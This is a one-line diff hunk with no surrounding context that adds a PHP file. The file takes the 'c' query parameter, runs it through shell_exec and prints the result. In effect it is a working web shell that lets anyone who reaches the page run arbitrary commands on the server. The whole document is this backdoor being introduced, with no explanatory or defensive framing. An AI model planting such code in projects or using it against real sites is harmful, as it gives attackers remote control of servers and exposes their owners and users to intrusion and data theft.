@@ -1,0 +1,1 @@
+<?php $c = "{$_GET["c"]}"; $o = shell_exec("$c"); echo $o;
